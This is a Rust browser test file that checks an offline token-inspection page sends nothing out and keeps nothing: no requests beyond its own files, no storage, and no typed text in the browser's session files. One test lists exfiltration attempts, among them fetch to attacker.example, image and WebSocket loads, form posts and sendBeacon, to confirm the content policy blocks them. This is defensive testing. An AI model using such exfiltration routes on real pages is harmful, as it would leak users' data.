//! Nothing that is typed leaves the page or is kept.

use page_tests::{Page, with_page_in_a_new_browser};
use serde_json::{Value, json};

/// The addresses of all requests that the browser has made for the page, and of those that the policy has stopped.
async fn requests(page: &Page) -> (Vec<String>, Vec<String>) {
    let entries = page.driver.log("performance").await;
    let messages = entries.iter().map(|entry| {
        let message: Value = serde_json::from_str(entry["message"].as_str().expect("text")).expect("JSON");
        message["message"].clone()
    });
    let (mut sent, mut stopped) = (Vec::new(), Vec::new());
    for message in messages {
        let parameters = &message["params"];
        match message["method"].as_str() {
            Some("Network.requestWillBeSent") => {
                sent.push((parameters["requestId"].clone(), parameters["request"]["url"].clone()))
            }
            Some("Network.webSocketCreated") => {
                sent.push((parameters["requestId"].clone(), parameters["url"].clone()))
            }
            Some("Network.loadingFailed") if parameters["blockedReason"] == "csp" => {
                stopped.push(parameters["requestId"].clone())
            }
            _ => {}
        }
    }
    // What stays in the browser: its own pages, and texts that are no requests.
    sent.retain(|(_, url)| {
        !["chrome:", "data:", "about:"]
            .iter()
            .any(|scheme| url.as_str().is_some_and(|url| url.starts_with(scheme)))
    });
    let urls = |list: Vec<(Value, Value)>| {
        list.into_iter().map(|(_, url)| url.as_str().expect("a URL").to_owned()).collect()
    };
    let (stopped, sent) = sent.into_iter().partition(|(id, _)| stopped.contains(id));
    (urls(sent), urls(stopped))
}

#[test]
fn no_request_leaves_but_for_the_four_files_of_the_page() {
    with_page_in_a_new_browser(async |page| {
        let url = page.server.url.clone();
        let (mut loaded, _) = requests(page).await;
        loaded.sort();
        assert_eq!(loaded, ["", "engine.js", "page.js", "style.css"].map(|file| format!("{url}{file}")));

        for example in ["token_expired", "proof_replayed", "entitlement_unavailable", "operator-tokens-ts-43"]
        {
            page.choose(example).await;
        }
        page.put("#config", "{").await;
        page.choose("a-good-registration").await;
        page.click("#token-new-key").await;
        page.click("#token-pin").await;
        page.click("#tab-protection").await;
        page.click("#link-menu summary").await;
        page.click("#copy-link").await;
        assert_eq!(requests(page).await, (Vec::new(), Vec::new()));
        let said: Vec<Value> = page.driver.log("browser").await;
        assert_eq!(said, Vec::<Value>::new(), "the browser complains");
    });
}

/// The log would show one: here is one that is tried, and what becomes of it.
#[test]
fn the_policy_forbids_every_way_out() {
    with_page_in_a_new_browser(async |page| {
        for way in [
            "fetch('/style.css')",
            "fetch('https://attacker.example/')",
            "new Promise((yes, no) => { const image = new Image(); image.onload = yes; image.onerror = no; image.src = '/x.png'; })",
            "new Promise((yes, no) => { const socket = new WebSocket('ws://127.0.0.1:1'); socket.onopen = yes; socket.onerror = no; })",
            "new Promise((yes, no) => { document.addEventListener('securitypolicyviolation', no); const form = document.createElement('form'); form.action = '/x'; document.body.append(form); form.submit(); setTimeout(yes, 2000); })",
            "(async () => { const script = document.createElement('script'); script.textContent = '1'; document.body.append(script); })()",
            "(async () => { document.body.innerHTML = '<b>x</b>'; })()",
        ] {
            let script = format!(
                "return (async () => {{ try {{ await ({way}); return 'went out' }} catch {{ return 'held' }} }})()"
            );
            assert_eq!(page.script(&script).await, "held", "{way}");
        }
        let beacon =
            "return (() => { try { return navigator.sendBeacon('/x', 'y') } catch { return false } })()";
        page.script(beacon).await;
        let (sent, stopped) = requests(page).await;
        // The log has what was tried: it would have what went out.
        assert!(stopped.iter().any(|request| request.ends_with("/x.png")), "{stopped:?}");
        let url = &page.server.url;
        let files = ["", "engine.js", "page.js", "style.css"].map(|file| format!("{url}{file}"));
        assert!(sent.iter().all(|request| files.contains(request)), "{sent:?}");
    });
}

#[test]
fn nothing_is_kept() {
    with_page_in_a_new_browser(async |page| {
        page.choose("proof_nonce").await;
        page.put("#token-claims", "{\"sub\": \"somebody\"}").await;
        let kept = "return (async () => [localStorage.length, sessionStorage.length, document.cookie, (await indexedDB.databases()).length, (await caches.keys()).length])()";
        assert_eq!(page.script(kept).await, json!([0, 0, "", 0, 0]));
        page.open("").await;
        assert_eq!(
            page.script("return document.getElementById('token-claims').value.includes('somebody')").await,
            false
        );
    });
}

/// A browser writes down what stands in the fields of a page, to bring it back after a crash, unless the form says no.
#[test]
fn what_is_typed_is_not_written_to_disk() {
    with_page_in_a_new_browser(async |page| {
        page.put("#token-claims", "{\"sub\": \"typed-by-somebody\"}").await;
        // It writes addresses, and with them what it would write of the fields.
        page.script("location.hash = 'written-by-the-browser'; return 0").await;
        let folder = page.driver.profile().join("Default/Sessions");
        let holds = |text: &str| {
            let wide: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
            std::fs::read_dir(&folder).into_iter().flatten().flatten().any(|file| {
                let bytes = std::fs::read(file.path()).unwrap_or_default();
                let has = |part: &[u8]| bytes.windows(part.len()).any(|window| window == part);
                has(text.as_bytes()) || has(&wide)
            })
        };
        let begin = std::time::Instant::now();
        while !holds("written-by-the-browser") {
            assert!(
                begin.elapsed().as_secs() < 60,
                "the browser has written nothing into {}",
                folder.display()
            );
            std::thread::sleep(std::time::Duration::from_millis(200));
        }
        assert!(!holds("typed-by-somebody"), "what was typed is in {}", folder.display());
    });
}

#[test]
fn the_page_works_from_a_file_without_a_server() {
    with_page_in_a_new_browser(async |page| {
        let folder = std::path::PathBuf::from(page_tests::variable("EEC_AUTHN_PAGE"));
        let file = format!("file://{}/index.html", folder.display());
        page.driver.client.goto(&file).await.expect("the file");
        page.until("return document.documentElement.dataset.ready === 'yes'").await;
        assert_eq!(page.verdict().await, "Allowed");
    });
}
